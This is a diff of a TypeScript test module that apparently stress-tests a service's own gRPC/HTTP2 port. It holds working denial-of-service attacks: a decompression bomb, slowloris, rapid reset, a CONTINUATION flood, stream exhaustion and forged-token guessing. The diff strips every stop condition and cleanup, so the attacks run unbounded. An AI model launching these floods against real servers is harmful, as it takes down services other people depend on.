@@ -25,7 +25,7 @@ const HEADER_BLOCK = Buffer.concat(
 export const MADE_UP_AT_ONCE = 100;
 const bearer = (text: string) => ({ authorization: `Bearer ${text}` });
 
-/** Attacks on the core's port. Each ends by itself. */
+/** Attacks on the core's port. They last until their process ends. */
 export const DOOR_ATTACKS = {
   // These two come right after the warm-up. Later the core has returned its memory and would take it again.
   "130 KB that inflate to 128 MB, with a credential": (target) =>
@@ -39,8 +39,6 @@ export const DOOR_ATTACKS = {
       // Some send nothing, some half of the preface, some a complete HTTP/2 greeting.
       socket.write([Buffer.alloc(0), PREFACE.subarray(0, 9), greeting()][index % 3] ?? "");
       if (!socket.destroyed) target.count("sent");
-      while (!target.isOver()) await wait(200);
-      socket.destroy();
     }),
 
   "bodies that come slowly, without a credential": (target) =>
@@ -50,12 +48,11 @@ export const DOOR_ATTACKS = {
         const stream = session.request(headersOf({}));
         stream.on("error", () => target.count("errors"));
         target.count("sent");
-        while (!target.isOver() && !stream.destroyed) {
+        while (!stream.destroyed) {
           stream.write(Buffer.alloc(1000));
           await wait(50);
         }
       });
-      session.destroy();
     }),
 
   "200 bodies of 1 MiB that do not end, where none needs a credential": (target) =>
@@ -66,11 +63,11 @@ export const DOOR_ATTACKS = {
 
   "rapid resets": (target) =>
     inParallel(10, async () => {
-      while (!target.isOver()) {
+      for (;;) {
         const socket = await open(target);
         socket.resume();
         socket.write(greeting());
-        for (let stream = 1; !target.isOver() && socket.writable; ) {
+        for (let stream = 1; socket.writable; ) {
           const frames: Buffer[] = [];
           for (; frames.length < 100; stream += 2) {
             frames.push(frame(FRAME.headers, END_OF_STREAM_AND_HEADERS, stream, HEADER_BLOCK));
@@ -88,11 +85,11 @@ export const DOOR_ATTACKS = {
 
   "CONTINUATION frames without end": (target) =>
     inParallel(20, async () => {
-      while (!target.isOver()) {
+      for (;;) {
         const socket = await open(target);
         socket.resume();
         socket.write(Buffer.concat([greeting(), frame(FRAME.headers, 0, 1, randomBytes(1000))]));
-        while (!target.isOver() && socket.writable) {
+        while (socket.writable) {
           socket.write(frame(FRAME.continuation, 0, 1, randomBytes(16_000)));
           target.count("sent");
           await wait(10);
@@ -109,7 +106,7 @@ export const DOOR_ATTACKS = {
       const socket = await open(target);
       if (!socket.destroyed) target.count("sent");
       for (const letter of `POST ${PATH} HTTP/1.1\r\nHost: x\r\n${"x: y\r\n".repeat(1000)}`) {
-        if (target.isOver() || !socket.writable) break;
+        if (!socket.writable) break;
         socket.write(letter);
         await wait(300);
       }
@@ -120,14 +117,13 @@ export const DOOR_ATTACKS = {
     inParallel(10, async () => {
       const session = await openSession(target);
       await inParallel(MADE_UP_AT_ONCE / 10, async () => {
-        while (!target.isOver() && !session.destroyed) {
+        while (!session.destroyed) {
           target.count("sent");
           const madeUp = target.credential.replace(/[0-9a-f]{8}$/, randomBytes(4).toString("hex"));
           target.count(`status ${await statusOf(session, bearer(madeUp))}`);
           await wait(20);
         }
       });
-      session.destroy();
     }),
 } satisfies Record<string, (target: DoorTarget) => Promise<unknown>>;
 
@@ -136,13 +132,12 @@ function inflate(target: DoorTarget, headers: Record<string, string>): Promise<u
   const body = envelopeOf(bomb, 1);
   return inParallel(8, async () => {
     const session = await openSession(target);
-    while (!target.isOver() && !session.destroyed) {
+    while (!session.destroyed) {
       target.count("sent");
       const status = await statusOf(session, { ...headers, "grpc-encoding": "gzip" }, body);
       target.count(`status ${status}`);
       await wait(20);
     }
-    session.destroy();
   });
 }
 
@@ -155,9 +150,8 @@ function onHundredStreams(
   return inParallel(sessions, async () => {
     const session = await openSession(target);
     await inParallel(100, async () => {
-      while (!target.isOver() && !session.closed) await openStream(session, target);
+      while (!session.closed) await openStream(session, target);
     });
-    session.destroy();
   });
 }
 
@@ -170,8 +164,7 @@ async function sendUnended(session: http2.ClientHttp2Session, target: DoorTarget
   stream.write(Buffer.alloc(1024 * 1024 - 1), (failure) => {
     if (!failure) target.count("bodies taken");
   });
-  while (!stream.destroyed && !target.isOver()) await wait(50);
-  stream.destroy();
+  while (!stream.destroyed) await wait(50);
 }
 
 /** Asks for a file again and again on one stream, and reads no answer, until the core ends the stream. */
@@ -181,12 +174,11 @@ async function reflectUnended(
 ): Promise<void> {
   const stream = session.request({ ...headersOf({}), ":path": REFLECTION_PATH });
   stream.on("error", () => target.count("errors"));
-  while (!stream.destroyed && !target.isOver()) {
+  while (!stream.destroyed) {
     stream.write(REFLECTION_REQUEST);
     target.count("sent");
     await wait(200);
   }
-  stream.destroy();
 }
 
 function headersOf(headers: Record<string, string>) {
